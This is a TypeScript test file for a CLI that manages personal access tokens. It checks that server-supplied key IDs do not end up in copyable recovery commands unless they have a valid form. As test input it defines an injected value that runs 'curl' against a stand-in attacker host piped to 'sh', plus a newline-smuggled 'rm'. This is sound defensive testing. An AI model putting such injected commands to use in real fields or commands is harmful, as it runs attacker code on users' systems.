import { describe, expect, it } from "vitest"
import { runCli } from "../support/program/program.ts"
import { startServer } from "../support/sandbox.ts"

const old = "law-hotel-shape-community"
const evil = "x; curl https://evil.invalid/x | sh #"
const token = "zpat_0123456789abcdefghijklmnopqrstuv"

/** An API whose new PAT has this key ID; `lost` drops the answer to the create, `refused` the check of its token. */
const api = async (keyId: unknown, fault: "lost" | "refused" | "none") => {
  let made = false
  const listed = (key_id: unknown) => ({
    key_id,
    label: "CI",
    status: "active",
    created_at: key_id === old ? "2020-01-01T00:00:00Z" : new Date().toISOString(),
    scopes: ["job"],
  })
  const url = await startServer((request, response) => {
    if (request.method === "POST") {
      made = true
      if (fault === "lost") return request.socket.destroy()
      response.statusCode = 201
      return response.end(JSON.stringify({ message: "ok", detail: { key_id: keyId, token } }))
    }
    if (request.method === "DELETE") {
      response.statusCode = 500
      return response.end('{"message":"no"}')
    }
    if (request.url?.endsWith("/hello")) {
      if (fault === "refused") response.statusCode = 400
      return response.end('{"message":"Hello"}')
    }
    const items = [listed(old), ...(made ? [listed(keyId)] : [])]
    return response.end(JSON.stringify({ message: "ok", detail: { items } }))
  })
  return { ZPOOL_API_URL: url, ZPOOLPAT: "zpat_mine", ZPOOL_MAX_RETRIES: "0" }
}

/** What hints offer to be copied: what follows a colon at the end of a line, or `zpcli pat ...`. */
const commands = (stderr: string) => stderr.match(/zpcli pat [^\n]*/g) ?? []

describe("a key ID from the server", () => {
  it.each([
    ["create whose answer is lost", ["pat", "create", "CI", "--scope", "job"], "lost"],
    ["rotate whose answer is lost", ["pat", "rotate", old, "--yes"], "lost"],
    ["rotate whose check fails", ["pat", "rotate", old, "--yes"], "refused"],
  ] as const)("is not part of a command to copy unless it is one, after a %s", async (_, args, fault) => {
    for (const keyId of [evil, "a-b-c-d\nrm", 7]) {
      const ran = await runCli([...args, ...(keyId === 7 ? ["--json"] : [])], {
        env: await api(keyId, fault),
      })
      expect(ran.code).not.toBe(0)
      expect(commands(ran.stderr).length).toBeGreaterThan(0)
      for (const command of commands(ran.stderr)) expect(command).toMatch(/^zpcli pat list(?![\w-])/)
    }
  })

  it("is part of it where it has the form of one", async () => {
    const ran = await runCli(["pat", "create", "CI", "--scope", "job"], {
      env: await api("new-acorn-birch-cedar", "lost"),
    })
    expect(ran.code).toBe(7)
    expect(ran.stderr).toContain("zpcli pat revoke new-acorn-birch-cedar\n")
  })
})
